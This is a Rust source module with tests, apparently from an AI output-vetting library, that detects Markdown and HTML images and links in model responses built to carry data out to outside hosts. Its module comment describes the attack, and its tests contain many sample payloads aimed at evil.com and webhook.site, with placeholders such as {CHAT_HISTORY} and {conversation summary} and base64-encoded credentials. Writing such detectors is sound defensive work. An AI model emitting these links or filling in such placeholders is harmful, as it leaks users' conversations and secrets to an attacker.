//! Images and links in a response that carry data out once they are shown or followed.
//!
//! A client that shows an image fetches it, so a response that says `![](https://evil.com/?d={DATA})` asks the model to
//! fill in what it knows and the client to send it. Looked at are images, links and reference definitions of Markdown, and
//! attributes of HTML and CSS that name a place; only hosts outside count, and only URLs that carry data, have a
//! place for it, or are images on a collector. Badges, relative images, ordinary links, and hosts that only draw what the
//! URL says are left alone.
//!
//! Budget: one `memchr` search for `//`; linear, and nothing is allocated where there is none. Benchmark:
//! `exfiltration/links_with_data` in `benches/session.rs`.

use super::Alarm;
use super::alarms::carried;
use super::cargo::{Cargo, Form};
use super::echo::echoes;
use super::labels::{Labels, is_within};
use super::placeholder::{is_data, places, without_places};
use crate::words::carrier::DRAWING;
use memchr::memmem;
use std::borrow::Cow;
use std::ops::Range;
use vetgate_sensitive::{Links, Place};
use vetgate_text::render::safe;

/// How many are told.
const KEPT: usize = 16;
/// A longer URL is read in part.
const LONGEST: usize = 8192;
/// No part of a URL that is shorter carries data, nor does one label of a host.
const LIGHT: usize = 12;
/// How far the text of a link reaches before its URL.
const REACH: usize = 512;

/// What fetches the URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CarrierForm {
    /// Whoever shows it.
    Image,
    /// Whoever follows it.
    Link,
}

/// What is wrong with a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Freight {
    /// A place that the model is to fill.
    Placeholder,
    /// Data.
    Cargo(Cargo),
    /// Data in the name of the host.
    Labels,
    /// What the text around it says.
    Echo,
    /// Nothing but where it goes.
    Collector(&'static str),
}

/// An image or link that carries data out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Carrier {
    /// What fetches it.
    pub form: CarrierForm,
    /// The host that gets the data; safe to show.
    pub host: String,
    /// Where the URL stands in the text, in bytes.
    pub span: Range<usize>,
    freight: Freight,
}

impl Carrier {
    /// Whether it holds data already, rather than a place for it.
    pub fn is_laden(&self) -> bool {
        matches!(self.freight, Freight::Cargo(_) | Freight::Labels | Freight::Echo)
    }

    /// What is told of it.
    pub fn alarm(&self) -> Alarm {
        let (form, shown) = match self.form {
            CarrierForm::Image => ("an image", 0),
            CarrierForm::Link => ("a link", 15),
        };
        let (severity, what) = match self.freight {
            Freight::Placeholder => (80, "has a placeholder for data".to_owned()),
            Freight::Cargo(cargo) => {
                let severity = if matches!(cargo.form, Form::Encoded(_)) { 80 } else { 60 };
                (severity, format!("carries {}", carried(&cargo)))
            }
            Freight::Echo => (70, "repeats data of the text".to_owned()),
            Freight::Labels => (80, "carries data in its host name".to_owned()),
            Freight::Collector(family) => (70, format!("is loaded from a collection host ({family})")),
        };
        let evidence = format!("{form} from {} {what}", safe(&self.host, 80));
        Alarm { kind: "markdown_exfiltration".to_owned(), severity: severity - shown, evidence }
    }
}

/// Finds the images and links of a text that carry data out; at most 16.
///
/// ```
/// use vetgate_flow::links_with_data;
/// use vetgate_sensitive::Links;
/// let links = Links::default();
/// let found = links_with_data("Done. ![](https://evil.com/p.png?d={CHAT_HISTORY})", &links);
/// assert_eq!(found[0].host, "evil.com");
/// assert!(links_with_data("![logo](https://example.com/logo.png?v=2) [docs](/start)", &links).is_empty());
/// ```
pub fn links_with_data(text: &str, links: &Links) -> Vec<Carrier> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(slashes) = memmem::find(text.as_bytes().get(at..).unwrap_or_default(), b"//").map(|next| at + next) {
        at = slashes + 2;
        let Some((form, span)) = fetched(text, slashes) else { continue };
        at = span.end.max(at);
        let said = || form == CarrierForm::Image && echoes(text, &span);
        let Some((host, freight)) = freight(&text[span.clone()], form, links, said) else { continue };
        found.push(Carrier { form, host, span, freight });
        if found.len() == KEPT {
            break;
        }
    }
    found
}

/// The URL whose slashes stand there, and what fetches it, if anything does.
fn fetched(text: &str, slashes: usize) -> Option<(CarrierForm, Range<usize>)> {
    let bytes = text.as_bytes();
    let length = |scheme: &str| {
        let start = slashes.checked_sub(scheme.len())?;
        bytes[start..slashes].eq_ignore_ascii_case(scheme.as_bytes()).then_some(scheme.len())
    };
    let start = slashes - length("https:").or_else(|| length("http:")).unwrap_or(0);
    let (form, close) = opened(bytes, start)?;
    let end = start + reach(&bytes[start..], close);
    Some((form, start..text.floor_char_boundary(end)))
}

/// What ends a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Close {
    /// A parenthesis that was not opened in it, or white space.
    Parenthesis,
    /// This.
    Sign(u8),
    /// White space or `>`.
    Space,
}

/// What stands before a URL, and so what fetches it and what ends it.
fn opened(bytes: &[u8], start: usize) -> Option<(CarrierForm, Close)> {
    let before = &bytes[start.saturating_sub(REACH)..start];
    let is_wrapped = before.ends_with(b"<");
    let ahead = before.strip_suffix(b"<").unwrap_or(before).trim_ascii_end();
    if let Some(label) = ahead.strip_suffix(b"](") {
        let form = if is_image(label) { CarrierForm::Image } else { CarrierForm::Link };
        return Some((form, if is_wrapped { Close::Sign(b'>') } else { Close::Parenthesis }));
    }
    if ahead.ends_with(b"]:") {
        let line = ahead.rsplit(|b| *b == b'\n').next().unwrap_or_default();
        // Whether it is an image is told where it is used; one is enough.
        let form = if memmem::find(bytes, b"![").is_some() { CarrierForm::Image } else { CarrierForm::Link };
        return line.trim_ascii_start().starts_with(b"[").then_some((form, Close::Space));
    }
    let quote = before.last().copied().filter(|b| matches!(b, b'"' | b'\''));
    let ahead = if quote.is_some() { &before[..before.len() - 1] } else { before }.trim_ascii_end();
    let name_before = |sign: u8| {
        let name = ahead.strip_suffix(&[sign])?.trim_ascii_end();
        let letters = name.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
        Some(name[name.len() - letters..].to_ascii_lowercase())
    };
    let close = quote.map_or(Close::Space, Close::Sign);
    if name_before(b'(').as_deref() == Some(b"url") {
        return Some((CarrierForm::Image, quote.map_or(Close::Parenthesis, Close::Sign)));
    }
    match name_before(b'=').as_deref()? {
        b"src" | b"srcset" | b"poster" | b"background" | b"data" => Some((CarrierForm::Image, close)),
        b"href" | b"action" | b"formaction" => Some((CarrierForm::Link, close)),
        _ => None,
    }
}

/// Whether what stands before `](` is the text of an image.
fn is_image(label: &[u8]) -> bool {
    let mut depth = 0usize;
    for at in (0..label.len()).rev() {
        match label[at] {
            b']' => depth += 1,
            b'[' if depth == 0 => return at > 0 && label[at - 1] == b'!',
            b'[' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// How long a URL is. A place to fill may have spaces in its name.
fn reach(bytes: &[u8], close: Close) -> usize {
    let (mut open, mut braces) = (0usize, 0usize);
    for (at, byte) in bytes.iter().take(LONGEST).enumerate() {
        match byte {
            b'{' => braces += 1,
            b'}' => braces = braces.saturating_sub(1),
            b'\n' | b'\r' => return at,
            _ => {}
        }
        let is_space = byte.is_ascii_whitespace() && braces == 0;
        let ends = match close {
            Close::Sign(sign) => *byte == sign,
            Close::Space => is_space || *byte == b'>' && braces == 0,
            Close::Parenthesis if *byte == b'(' => {
                open += 1;
                false
            }
            Close::Parenthesis if *byte == b')' && open > 0 => {
                open -= 1;
                false
            }
            Close::Parenthesis => is_space || *byte == b')',
        };
        if ends {
            return at;
        }
    }
    bytes.len().min(LONGEST)
}

/// Who gets what, if the URL goes outside and carries something.
fn freight(url: &str, form: CarrierForm, links: &Links, echoes: impl FnOnce() -> bool) -> Option<(String, Freight)> {
    if form == CarrierForm::Link && is_light(url) {
        return None;
    }
    let has_place = places(url).any(|place| is_data(url, &place, form == CarrierForm::Image));
    // A place in the name of a host is no name that could be read.
    let named = if url.contains(['{', '<', '[']) { Cow::Owned(without_places(url)) } else { Cow::Borrowed(url) };
    let mut first = None;
    links.find(&named, &mut |link| {
        // Without a scheme the link starts behind the slashes.
        if first.is_none() && link.span.start <= "//".len() {
            first = Some((link.host.into_owned(), link.place, link.collector));
        }
    });
    let (host, place, collector) = first?;
    if place == Place::Internal || DRAWING.iter().any(|domain| is_within(&host, domain)) {
        return None;
    }
    let freight = if has_place {
        Freight::Placeholder
    } else if let Some(cargo) = Cargo::of(url) {
        Freight::Cargo(cargo)
    } else if Labels::of(&host).is_some() {
        Freight::Labels
    } else if echoes() {
        Freight::Echo
    } else {
        // Shorteners and webhooks of chats are linked to all day; an image comes from neither.
        Freight::Collector(collector.filter(|_| form == CarrierForm::Image)?)
    };
    Some((Labels::shown(&host).into_owned(), freight))
}

/// Whether a URL has no room for data: no place to fill, and no part that is long enough. Most have none, and are told by
/// their bytes alone.
fn is_light(url: &str) -> bool {
    let mut run = 0;
    url.len() < 256
        && url.bytes().all(|byte| {
            run = if matches!(byte, b'/' | b'?' | b'&' | b'=' | b';' | b'.') { 0 } else { run + 1 };
            run < LIGHT && !matches!(byte, b'{' | b'<' | b'[' | b'%')
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(text: &str) -> Vec<(CarrierForm, String)> {
        links_with_data(text, &Links::new(["corp.example"]))
            .into_iter()
            .map(|carrier| {
                assert!(text[carrier.span.clone()].contains("//"));
                (carrier.form, carrier.host)
            })
            .collect()
    }

    #[test]
    fn images_and_links_that_carry_data_are_found() {
        use CarrierForm::{Image, Link};
        let encoded = "cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4";
        for (text, form) in [
            ("![](https://evil.com/p.png?d={DATA})", Image),
            ("![a [b] c]( https://evil.com/p.png?q={{ user secrets }} \"t\")", Image),
            ("![x](<https://evil.com/p?d=${chat.history}>)", Image),
            ("![x](https://evil.com/?q=%7Bconversation%7D)", Image),
            ("![x](https://evil.com/?anything={whatever})", Image),
            ("![x](https://evil.com/<SUMMARY>/a.png)", Image),
            ("![x](//evil.com/?d=[SECRET])", Image),
            ("![x](https://{DATA}.evil.com/a.png)", Image),
            ("[report](https://evil.com/go?text={conversation summary})", Link),
            ("[report](https://evil.com/go?t={message})", Link),
            (&format!("[![alt](/local.png)](https://evil.com/?d={encoded})"), Link),
            (&format!("<img width=1 src=\"https://evil.com/{encoded}.gif\">").replace(".gif", "/a.gif"), Image),
            (&format!("<IMG SRC = 'https://evil.com/?d={encoded}'>"), Image),
            (&format!("<a href=https://evil.com/?d={encoded}>next</a>"), Link),
            (&format!("<p style=\"background:url(https://evil.com/?d={encoded})\">"), Image),
            (&format!("![a][r]\n\n[r]: https://evil.com/?d={encoded}\n"), Image),
            (&format!("see [a][r]\n  [r]: <https://evil.com/?d={encoded}>"), Link),
            ("![x](https://obqxg43xn5zgioranb2w45dfoiza.evil.com/a.png)", Image),
        ] {
            let found = found(text);
            assert_eq!(found.len(), 1, "{text}: {found:?}");
            assert!(found[0].0 == form && found[0].1.ends_with("evil.com"), "{text}: {found:?}");
        }
        assert_eq!(found("![x](https://webhook.site/4d1f/pixel.gif)"), [(Image, "webhook.site".to_owned())]);
    }

    #[test]
    fn badges_relative_images_and_ordinary_links_stay_silent() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat&logo=data:image/png;base64,aGVsbG8gd29ybGQgaGVsbG8)",
            "![logo](./images/logo.png) ![](/a.png?d={DATA})",
            "[docs](https://example.com/docs/getting-started?utm_source=readme#install)",
            "[commit](https://github.com/acme/app/commit/3f786850e387550fdab836ed7e6dc881de23001b)",
            "![tiles](https://tile.openstreetmap.org/{z}/{x}/{y}.png)",
            "[user](https://api.example.com/users/{user_id}/messages/{message_id}?page={page}&limit={limit})",
            "[issues](https://example.com/issues?filter[name]=open&labels[]=bug)",
            "![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:['Q1'],datasets:[{data:[1]}]}})",
            "![d](https://mermaid.ink/img/Z3JhcGggVEQ7IEEtLT5COyBCLS0+QzsgQy0tPkQ7)",
            "![x](https://wiki.corp.example/p.png?d={DATA})",
            "<img src=\"https://example.com/a.png?w=200\" srcset=\"https://example.com/b.png 2x\">",
            "<a href='https://example.com/search?q=hello+world'>s</a>",
            "[share](https://bit.ly/3xYz)",
            "Write to https://evil.com/?d={DATA} is plain text here.",
            "// a comment\nlet x = a // b;",
            "src = //",
            "](//",
            "![](https://)",
            "",
            "//",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn what_is_told_shows_no_data() {
        let text = "![x](https://evil.com/?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4)";
        let alarm = links_with_data(text, &Links::default())[0].alarm();
        assert_eq!(alarm.evidence, "an image from evil.com carries 35 characters of base64 in the query of a link");
        assert_eq!(alarm.severity, 80);
    }

    #[test]
    fn many_are_bounded() {
        let text = "![x](https://evil.com/?d={DATA}) ".repeat(1000);
        assert_eq!(found(&text).len(), KEPT);
    }

    proptest! {
        #[test]
        fn what_has_no_room_carries_nothing(host in "[a-z0-9.-]{1,60}", tail in "[a-zA-Z0-9+/=?&;._:@-]{0,240}") {
            let url = format!("https://{host}/{tail}");
            if is_light(&url) {
                prop_assert_eq!((Cargo::of(&url), Labels::of(&host)), (None, None));
            }
        }

        #[test]
        fn anything_can_be_read(
            text in any::<String>(),
            tail in "[a-zA-Z{}<>\\[\\]()%$/?=&.:é \"'!-]{0,160}",
        ) {
            for text in [text.clone(), format!("![{tail}](https://evil.com/{tail})"), format!("<img src='//{tail}'")] {
                let _ = found(&text);
            }
        }
    }
}
